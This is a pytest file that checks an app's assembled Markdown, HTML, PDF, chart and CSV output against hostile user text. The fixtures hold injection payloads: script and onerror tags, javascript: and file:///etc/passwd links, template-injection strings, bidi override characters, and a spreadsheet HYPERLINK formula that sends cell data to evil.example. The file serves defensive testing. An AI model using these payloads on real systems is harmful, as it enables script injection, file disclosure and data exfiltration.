"""Text from strangers in every field that a person can fill: it comes out as literal text, and opens nothing."""

from __future__ import annotations

import csv
import io
import pickle
import re
import subprocess
import sys
from dataclasses import dataclass
from functools import cache
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import orjson
import page
import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token
from mdit_py_plugins.footnote import footnote_plugin
from pypdf import PdfReader

from app.core.document.assemble import assemble, traceability_csv, whole_markdown
from app.core.document.escaping import normalised
from app.core.document.html import render_chapters
from app.core.document.model import DocumentSet
from app.core.framework import Family
from app.io.documents.files import Source, make_files
from app.io.documents.job import AssemblyJob
from tests.documented_pack import make_assessment, make_pack, objective, report_of
from tests.io.documents.real_pack import built_in, hostile, report_on

ROOT = Path(__file__).parents[3]
CHART = re.compile(r"charts/[a-z0-9-]+\.svg")
ALLOWED_LINK = re.compile(r"https?://|mailto:|#[A-Za-z]")
LITERAL, PROSE = "Zq7", "Pq7"
"""Marks that begin what is plain text, and what is a team's own Markdown."""

KINDS = {
    "inline": 'Zq7 <b onclick="x()">b</b> <script>alert(1)</script><img src=file:///etc/passwd onerror=x> <!-- c -->'
    ' "t" \'x\' \\ \\" \\| &amp; &#60; `c` *e* _e_ ~~s~~ \u202eevil\u202c \u2066x\u2069'
    " {{ 7*7*7*7*7 }} {% for x in range(9) %}x{% endfor %} {# no #} {row.target} ${row} size([1]) == 1 && true",
    "addresses": r"Zq7 ![a](https://evil.example/x.png) ![b](/etc/passwd) ![c](\\host\share\x.png) ![d](file:///etc/x)"
    " ![e](data:image/svg+xml;base64,AA) ![f](charts/readiness.svg)"
    " [a](javascript:alert(1)) [b](file:///etc/passwd) [c](smb://host/x) [d](//h/x) <javascript:alert(1)>",
    "definitions": '[Zq7]: javascript:alert(1) "t"\n\nsee [Zq7] and Zq7[^1] ^[inline]\n\n[^1]: note',
    "headings": "# Zq7 one {#sre}\n\nZq7 two\n===\n\n## Zq7 three {#objectives}",
    "tables": "Zq7 | a | b |\n| --- | --- |\n| c | d |",
    "fences": "```Zq7\nx\n\n~~~ Zq7",
    "requirements": "> **REQ-SLM-01** Zq7 **shall**\n\n**REQ-FAKE-99 · OPEN ERROR SLM-001** Zq7\n\n"
    "**Not yet answered.** Zq7",
    "lists": "- Zq7\n1. Zq7\n+ [ ] Zq7\n: Zq7\n\n    Zq7",
    "formulas": '=HYPERLINK("http://evil.example/?"&A1) Zq7',
    "words": "Zq7" + "w" * 9_997,
}
ELEMENTS = {
    *("a", "blockquote", "br", "code", "dd", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4"),
    *("h5", "h6", "hr", "img", "li", "ol", "p", "pre", "s", "section", "strong", "table", "tbody", "td", "th", "thead"),
    *("tr", "ul"),
}
ATTRIBUTES = {"alt", "class", "href", "id", "scope", "src", "start", "title"}


@pytest.fixture(scope="module", params=KINDS)
def kind(request: pytest.FixtureRequest) -> str:
    """One kind after the other, because a kind's documents take a second to make."""
    return str(request.param)


@dataclass(frozen=True)
class Made:
    """The documents of a hostile assessment, what a Markdown reader finds in them, and their HTML."""

    documents: DocumentSet
    tokens: list[Token]
    html: str
    quoted: tuple[str, ...]
    """What findings on prose say; they quote a part of the text."""

    @property
    def inline(self) -> list[Token]:
        """Inline tokens of all documents, with those inside images."""
        found = [child for token in self.tokens for child in token.children or ()]
        return found + [each for child in found for each in child.children or ()]


@cache
def made(kind: str) -> Made:
    text = KINDS[kind]
    assessment = hostile(text, text.replace(LITERAL, PROSE))
    report = report_on(assessment)
    documents = assemble(built_in().pack, assessment, report)
    quoted = {normalised(each.message) for each in report.findings if each.family is Family.PROSE}
    markdown = "\n\n".join(each.markdown for each in documents.documents)
    chapters = render_chapters({each.id: each.markdown for each in documents.documents})
    html = "".join(each.html for each in chapters.values())
    return Made(documents, _reader().parse(markdown), html, tuple(sorted(quoted, key=len, reverse=True)))


def _reader() -> MarkdownIt:
    """A reader of exported Markdown that takes HTML, footnotes and every link for what they look like."""
    reader = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).use(footnote_plugin)
    reader.validateLink = lambda _url: True  # type: ignore[method-assign]
    return reader


def _words(tokens: list[Token]) -> str:
    """What stands in the text, on one line."""
    parts = [_words_of(token.children) if token.children is not None else token.content for token in tokens]
    return " ".join(" ".join(parts).split())


def _words_of(children: list[Token]) -> str:
    breaks = ("softbreak", "hardbreak")
    return "".join(" " if child.type in breaks else child.content for child in children if child.type != "image")


def test_it_stands_literally_wherever_it_stands(kind: str) -> None:
    literal = normalised(KINDS[kind])
    words = _words(made(kind).tokens)
    for sentence in made(kind).quoted:
        words = words.replace(sentence, "")
    starts = [found.start() for found in re.finditer(LITERAL, words)]
    offsets = [found.start() for found in re.finditer(LITERAL, literal)]
    wrong = [words[max(0, at - 40) : at + 60] for at in starts if not _is_within(literal, offsets, words, at)]
    assert len(starts) > 300
    assert wrong == []


def _is_within(literal: str, offsets: list[int], words: str, at: int) -> bool:
    """Whether `literal` stands around the mark at `at`; an ellipsis shows where a field or template has cut it."""
    for offset in offsets:
        before, after = literal[:offset], literal[offset:]
        begins = words[:at].endswith(before)
        rest = words[at : at + len(after)]
        if begins and (rest == after or ("…" in rest and after.startswith(rest.split("…")[0]))):
            return True
    return False


def test_markdown_has_no_html(kind: str) -> None:
    kinds = {token.type for token in (*made(kind).tokens, *made(kind).inline)}
    assert "text" in kinds
    assert not kinds & {"html_block", "html_inline"}


def test_markdown_shows_charts_only(kind: str) -> None:
    sources = {str(token.attrs["src"]) for token in made(kind).inline if token.type == "image"}
    assert sources == set(made(kind).documents.charts)


def test_markdown_links_lead_to_the_web_or_stay(kind: str) -> None:
    links = {str(token.attrs["href"]) for token in made(kind).inline if token.type == "link_open"}
    assert [link for link in links if not ALLOWED_LINK.match(link)] == []


def test_markdown_has_no_footnote(kind: str) -> None:
    assert not any("footnote" in token.type for token in (*made(kind).tokens, *made(kind).inline))


def test_no_heading_is_forged(kind: str) -> None:
    tokens = made(kind).tokens
    headings = [(each.tag, _words([words])) for each, words in pairwise(tokens) if _is_heading(each)]
    literal = normalised(KINDS[kind])
    forged = [(tag, text) for tag, text in headings if LITERAL in text and text in literal and text != literal]
    assert forged == []
    assert all(tag not in ("h1", "h2") for tag, text in headings if PROSE in text)


def _is_heading(token: Token) -> bool:
    return token.type == "heading_open"


def test_every_document_has_one_title(kind: str) -> None:
    titles = [token for token in made(kind).tokens if _is_heading(token) and token.tag == "h1"]
    assert len(titles) == len(made(kind).documents.documents)


def test_html_is_well_formed_and_has_known_elements_only(kind: str) -> None:
    tree = ElementTree.fromstring(f"<body>{made(kind).html}</body>")
    assert {each.tag for each in tree.iter()} - {"body"} <= ELEMENTS
    assert {name for each in tree.iter() for name in each.attrib} <= ATTRIBUTES


def test_html_shows_charts_and_links_nowhere_else(kind: str) -> None:
    tree = ElementTree.fromstring(f"<body>{made(kind).html}</body>")
    assert {each.attrib["src"] for each in tree.iter("img")} == set(made(kind).documents.charts)
    assert all(ALLOWED_LINK.match(each.attrib["href"]) for each in tree.iter("a"))


def test_no_requirement_is_forged(kind: str) -> None:
    tree = ElementTree.fromstring(f"<body>{made(kind).html}</body>")
    framed = [each.attrib.get("id") for each in tree.iter("blockquote") if each.attrib.get("class")]
    assert framed == [each.id for each in made(kind).documents.requirements]


def test_no_error_and_no_gap_is_forged(kind: str) -> None:
    tree = ElementTree.fromstring(f"<body>{made(kind).html}</body>")
    labels = ["".join(each.itertext()) for each in tree.iter("strong") if each.attrib.get("class") == "req-id"]
    stated = {each.id: each.open_errors for each in made(kind).documents.requirements}
    assert {label.split(" · ")[0]: "OPEN ERROR" in label for label in labels} == {
        name: bool(errors) for name, errors in stated.items()
    }
    callouts = ["".join(each.itertext()) for each in tree.iter("div") if each.attrib.get("class") == "callout open"]
    assert not any(LITERAL in callout or PROSE in callout for callout in callouts)


def test_charts_are_drawings_and_nothing_else(kind: str) -> None:
    for svg in made(kind).documents.charts.values():
        root = ElementTree.fromstring(svg)
        names = {each.tag.rpartition("}")[2] for each in root.iter()}
        assert not names & {"script", "foreignObject", "image", "a", "use", "animate", "set", "style"}
        assert not any("href" in name or name.startswith("on") for each in root.iter() for name in each.attrib)


def test_the_traceability_has_its_columns_and_no_formula(kind: str) -> None:
    requirements = made(kind).documents.requirements
    rows = list(csv.reader(io.StringIO(traceability_csv(requirements))))
    assert {len(row) for row in rows} == {9}
    assert len(rows) == len(requirements) + 1
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)


def test_writing_is_never_turned_around() -> None:
    both = whole_markdown(made("inline").documents.documents) + made("inline").html
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", both + "".join(made("inline").documents.charts.values()))


def test_templates_in_answers_are_not_run() -> None:
    assert "16807" not in _words(made("inline").tokens)


@pytest.mark.parametrize("link", ["javascript:alert(1)", "file:///etc/passwd", "https://e.org/)[x](smb://host/x)"])
def test_a_link_of_evidence_or_of_a_reference_is_shown_as_one_only_when_it_is_safe(link: str) -> None:
    assessment = hostile("Words", "Words", link)
    documents = assemble(built_in().pack, assessment, report_on(assessment))
    tokens = _reader().parse(whole_markdown(documents.documents))
    hrefs = {
        str(child.attrs["href"]) for token in tokens for child in token.children or () if child.type == "link_open"
    }
    assert [href for href in hrefs if not ALLOWED_LINK.match(href)] == []


# Everything at once, as files

EVERYTHING = (
    "Zq7 <script>x</script><img src=file:///etc/passwd> ![i](file:///etc/hostname) ![c](/etc/hostname) "
    "[l](javascript:x) [s](smb://h/x) # h {{7*7}} | a \u202e"
)


@dataclass(frozen=True)
class Page:
    """What a browser would act on."""

    elements: set[str]
    attributes: set[str]
    addresses: set[str]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found = Page(set(), set(), set())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.elements.add(tag)
        self.found.attributes.update(name for name, _value in attrs)
        self.found.addresses.update(value or "" for name, value in attrs if name in ("href", "src"))


@pytest.fixture(scope="module")
def files() -> dict[str, bytes]:
    """A small pack, whose PDF is quick, with the same text in all of its fields."""
    service = EVERYTHING[:150]
    row = {**objective(EVERYTHING), "reason": EVERYTHING}
    values: dict[str, Any] = {
        "slm__objectives": [row, {**row, "id": "r2", "target": 100, "indicator": "w" * 10_000}],
        "slm__narrative": EVERYTHING + "\n\n```\nopen fence",
    }
    assessment = make_assessment(service, **values)
    assessment = assessment.model_copy(update={"meta": assessment.meta.model_copy(update={"summary": EVERYTHING})})
    compiled = make_pack()
    return make_files(Source(compiled.pack, assessment, report_of(compiled, assessment)), ("md", "html", "pdf"))


def test_a_whole_page_of_html_is_only_what_we_wrote(files: dict[str, bytes]) -> None:
    collector = _Collector()
    collector.feed(files["prd.html"].decode())
    found = collector.found
    assert found.elements <= ELEMENTS | {"html", "head", "meta", "title", "style", "body", "main"}
    assert found.attributes <= ATTRIBUTES | {"lang", "charset", "http-equiv", "content", "name"}
    assert {each for each in found.addresses if not ALLOWED_LINK.match(each)} == {"charts/readiness.svg"}


def test_the_title_of_a_page_is_not_turned_around(files: dict[str, bytes]) -> None:
    assert "\u202e" not in files["prd.html"].decode()


def test_links_of_the_pdf_lead_to_the_web_or_stay(files: dict[str, bytes]) -> None:
    actions = [_action(each.get_object()) for sheet in _pdf(files).pages for each in sheet.get("/Annots", [])]
    assert actions
    assert [action for action in actions if not re.match(r"within|https?://|mailto:", action)] == []


def _action(annotation: Any) -> str:
    if "/Dest" in annotation:
        return "within"
    action = annotation["/A"]
    return str(action.get("/URI", action["/S"]))


def test_the_pdf_holds_no_picture_file_or_script(files: dict[str, bytes]) -> None:
    root = _pdf(files).trailer["/Root"]
    assert not {"/OpenAction", "/AA", "/AcroForm", "/AF"} & set(root)
    assert not {"/EmbeddedFiles", "/JavaScript"} & set(root.get("/Names", {}))
    assert [image.name for sheet in _pdf(files).pages for image in sheet.images] == []


def test_the_pdf_passes_the_checker(files: dict[str, bytes]) -> None:
    failures = page.validate_pdf_bytes(files["prd.pdf"], profile="ua1").failures
    assert [(each.rule_id, each.message) for each in failures] == []


def test_the_metadata_of_the_pdf_is_not_turned_around(files: dict[str, bytes]) -> None:
    info = _pdf(files).metadata
    assert info is not None
    assert "\u202e" not in f"{info.title}{info.subject}"


def _pdf(files: dict[str, bytes]) -> PdfReader:
    return PdfReader(io.BytesIO(files["prd.pdf"]), strict=True)


# Nothing is opened

WATCHED = """
import json, pickle, sys
from app.io.documents import worker
from app.io.documents.template_code import template_code
kept = template_code().directory
ordinary, hostile = pickle.load(sys.stdin.buffer)
worker._answer(ordinary)
seen = []
def hook(event, arguments):
    watched = event.startswith(("open", "os.listdir", "os.scandir", "os.system", "socket.", "subprocess."))
    if watched and not str(arguments[0]).startswith(kept):
        seen.append([event, str(arguments[0])])
sys.addaudithook(hook)
answer = worker._answer(hostile)
print(json.dumps({"seen": seen, "documents": sorted(answer["markdown"])}))
"""


def test_assembling_and_rendering_open_no_file_and_no_address() -> None:
    ordinary, written = hostile("Words", "Words"), hostile(EVERYTHING, EVERYTHING, "file:///etc/hostname")
    jobs = [AssemblyJob(built_in().pack, each, report_on(each), html=True) for each in (ordinary, written)]
    done = subprocess.run([sys.executable, "-c", WATCHED], input=pickle.dumps(jobs), capture_output=True, cwd=ROOT)
    assert done.returncode == 0, done.stderr.decode()
    found = orjson.loads(done.stdout)
    assert len(found["documents"]) == len(built_in().pack.manifest.documents)
    assert found["seen"] == []
